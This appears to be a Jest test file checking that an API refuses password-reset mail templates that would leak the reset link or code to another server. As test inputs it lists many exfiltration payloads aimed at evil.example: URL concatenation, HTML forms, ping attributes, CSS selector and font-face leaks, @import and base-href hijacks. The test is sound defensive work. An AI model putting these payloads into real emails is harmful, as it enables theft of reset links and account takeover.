import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { startApp, type TestApp, type TestOrganization, type TestUser } from '../support/test-app.js';

let app: TestApp;
let organization: TestOrganization;
let editor: TestUser;
beforeAll(async () => {
  app = await startApp();
  ({ organization } = await app.given.organization());
  editor = await app.given.user(organization, {
    permissions: ['mail-templates:write', 'mail-templates:read'],
  });
});
afterAll(() => app.stop());

const put = (body: object) =>
  app.api.as(editor).put(`/v1/organizations/${organization.slug}/mail-templates/reset-password/en`, {
    subject: 'New',
    ...body,
  });

/** Whoever writes the mails of an organization gets nobody's link by them, also not with the help of a click. */
describe('A template takes no link and no code to another server', () => {
  it.each([
    'https://evil.example/?q=:{{ link }}',
    "https://evil.example/?q='{{ link }}",
    'https://evil.example/({{ link }})',
    'evil.example/"{{ link }}',
    'https://evil.example/\ufeff{{ link }}',
    '{{ link }} https://evil.example/({{ code }})',
    "{{ link }} https://evil.example/?'{{ code }}'",
  ])('by an address in a text: %s', async (text) => {
    expect(await put({ text })).toBeProblem('invalid_template', { pointer: '/text' });
  });

  it.each([
    '<p>https://evil.example/?q=:{{ link }}</p>',
    '<p>https://evil.example/?q=&quot;<!-- -->{{ link }}</p>',
    '<p>https://evil.example/<b>{{ link }}</b></p>',
    '<form action="https://evil.example"><textarea name="t">{{ link }}</textarea><button>Go</button></form>',
    '<form action="https://evil.example"><p>{{ link }}</p></form>',
    '<select name="t"><option>{{ link }}</option></select>',
    '<a href="{{ link }}" ping="https://evil.example">x</a>',
    '<style>a[href*="aa"] { background: url(https://evil.example/aa) }</style><a href="{{ link }}">x</a>',
    '<style>a[*|HREF*="aa"] { color: red }</style><a href="{{ link }}">x</a>',
    '<style>a[/**/href*="aa"] { color: red }</style><a href="{{ link }}">x</a>',
    '<style>a[\\68ref*="aa"] { color: red }</style><a href="{{ link }}">x</a>',
    '<style>@import "https://evil.example/x.css";</style><a href="{{ link }}">x</a>',
    '<style>@font-face { src: url(https://evil.example/1); unicode-range: U+31 }</style><a href="{{ link }}">x</a>',
    '<link rel="stylesheet" href="https://evil.example/x.css"><a href="{{ link }}">x</a>',
    '<base href="https://evil.example/"><a href="{{ link }}">x</a>',
    '<a href="{{ link }}">x</a><p>https://evil.example/({{ code }})</p>',
  ])('by HTML: %s', async (html) => {
    expect(await put({ text: '{{ link }}', html })).toBeProblem('invalid_template', { pointer: '/html' });
  });

  it.each([
    ['Link:{{ link }}\n({{ link }})', '<p>Your link: <a href="{{ link }}">{{ link }}</a></p>'],
    [
      'Or "{{ link }}"',
      '<p>Open <b>{{ link }}</b></p><p>{% if code %}Code:&nbsp;<b>{{ code }}</b>.{% endif %}</p>',
    ],
    [
      'https://acme.example\n{{ link }}',
      '<style>p[lang|="en"] { color: red }</style><p>Visit acme.example<br>{{ link }}</p>',
    ],
  ])('and may have them everywhere else: %s', async (text, html) => {
    expect(await put({ text, html })).toMatchObject({ status: 200 });
  });
});
